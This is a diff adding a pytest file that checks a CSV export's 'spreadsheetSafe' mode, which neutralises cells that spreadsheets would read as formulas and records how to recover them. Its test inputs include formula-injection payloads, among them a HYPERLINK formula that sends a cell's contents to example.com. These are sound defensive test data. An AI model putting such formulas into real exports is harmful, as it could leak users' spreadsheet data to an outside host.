@@ -1,0 +1,132 @@
+"""Files that spreadsheets open: no cell is a formula, and what was there can be had back."""
+
+import asyncio
+import csv
+import io
+import json
+import re
+import uuid
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from footfall.errors import RequestRefused
+from footfall.reports.rows import RISKY, SAFE_MARK
+from footfall.state import JobStatus
+
+NOW_MS = 1_760_000_000_000
+# What some spreadsheet takes for the beginning of a formula, or drops, and so comes to one.
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+CELLS = [
+    '=HYPERLINK("http://example.com?"&A1,"click")',
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\r\n=1",
+    "\uff1d1+1",
+    "'",
+    "''",
+    "'=1",
+    "'quoted'",
+    "",
+    " =1",
+    "a=1",
+    "1-1",
+    "|=1",
+    ",=1",
+    '"=1"',
+    '"',
+    "=1|2",
+    "'|",
+    "-1\n-1",
+    "\0=1",
+    "\ufeff=1",
+]
+
+
+def neutralised(text: str) -> str:
+    """A model of what the engine does."""
+    return SAFE_MARK + text if re.match(RISKY, text) else text
+
+
+def undone(cell: str, said: dict[str, str]) -> str:
+    """What the manifest says of how to have the value back."""
+    return cell.removeprefix(said["mark"])
+
+
+def report(place: Any, events: list[dict[str, Any]], **output: Any) -> tuple[list[list[str]], dict[str, Any]]:
+    """The cells of the file of these events, and its manifest."""
+    product, batch = uuid.uuid4().hex, str(uuid.uuid4())
+    place.load(event | {"product": product, "batch": batch, "sequence": n + 1} for n, event in enumerate(events))
+
+    async def scenario() -> tuple[str, dict[str, Any]]:
+        job = await place.make(output=output, product=product)
+        assert job.status is JobStatus.COMPLETE, job.reason
+        return (await place.read(job)).decode(), json.loads(job.manifest)
+
+    text, manifest = asyncio.run(scenario())
+    delimiter = output.get("delimiter", "|")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)), manifest
+
+
+@pytest.mark.parametrize("delimiter", ["|", ",", ";", "\t", "'", "=", "-"])
+def test_no_cell_begins_a_formula_and_each_can_be_had_back(place, delimiter: str) -> None:
+    events = [{"timestamp": NOW_MS - 99 + n, "type": cell, "context": [cell, "x"]} for n, cell in enumerate(CELLS)]
+    rows, manifest = report(place, events, spreadsheetSafe=True, delimiter=delimiter)
+    said = manifest["spreadsheetSafe"]
+    assert said == {"mark": "'", "pattern": RISKY}
+    assert rows == [[str(NOW_MS - 99 + n), neutralised(cell), neutralised(cell), "x"] for n, cell in enumerate(CELLS)]
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULAS)]
+    assert [[undone(cell, said) for cell in row[1:]] for row in rows] == [[cell, cell, "x"] for cell in CELLS]
+
+
+@pytest.mark.parametrize("delimiter", ["|", ","])
+def test_a_file_is_exact_unless_it_is_asked_to_be_safe(place, delimiter: str) -> None:
+    events = [{"timestamp": NOW_MS - 99 + n, "type": cell, "context": [cell, "x"]} for n, cell in enumerate(CELLS)]
+    for given_so in ({}, {"spreadsheetSafe": False}, {"spreadsheetSafe": None}):
+        rows, manifest = report(place, events, delimiter=delimiter, **given_so)
+        assert [row[1:] for row in rows] == [[cell, cell, "x"] for cell in CELLS]
+        assert "spreadsheetSafe" not in manifest
+
+
+def test_what_the_plan_s_columns_lack_stays_empty(place) -> None:
+    rows, _ = report(place, [{"context": ["=1", "'"]}, {"context": []}], spreadsheetSafe="true", header=True)
+    assert rows == [
+        ["timestamp", "type", "context1", "context2"],
+        [str(NOW_MS - 86_400_000), "T", "'=1", "''"],
+        [str(NOW_MS - 86_400_000), "T", "", ""],
+    ]
+
+
+@pytest.mark.parametrize("file_format", ["jsonl", "parquet", "arrow"])
+def test_other_formats_are_not_for_spreadsheets(place, file_format: str) -> None:
+    with pytest.raises(RequestRefused) as caught:
+        asyncio.run(place.order(output={"format": file_format, "spreadsheetSafe": True}))
+    assert [str(problem) for problem in caught.value.problems] == [
+        f"output.spreadsheetSafe: is for csv, which spreadsheets open, not for {file_format}"
+    ]
+
+
+TEXT = st.text(st.sampled_from("=+-@'\t\r\n|\"\uff1d\uff0b\uff0d\uff20a ") | st.characters(codec="utf-8"), max_size=6)
+
+
+@given(TEXT)
+def test_any_text_can_be_had_back(text: str) -> None:
+    cell = neutralised(text)
+    assert not cell.startswith(FORMULAS)
+    assert undone(cell, {"mark": SAFE_MARK, "pattern": RISKY}) == text
+
+
+@hypothesis_settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.lists(TEXT, min_size=1, max_size=60))
+def test_the_engine_does_as_the_model_does(place, texts: list[str]) -> None:
+    events = [{"timestamp": NOW_MS - 99 + n, "context": [text]} for n, text in enumerate(texts)]
+    rows, _ = report(place, events, spreadsheetSafe=True)
+    assert [row[2] for row in rows] == [neutralised(text) for text in texts]
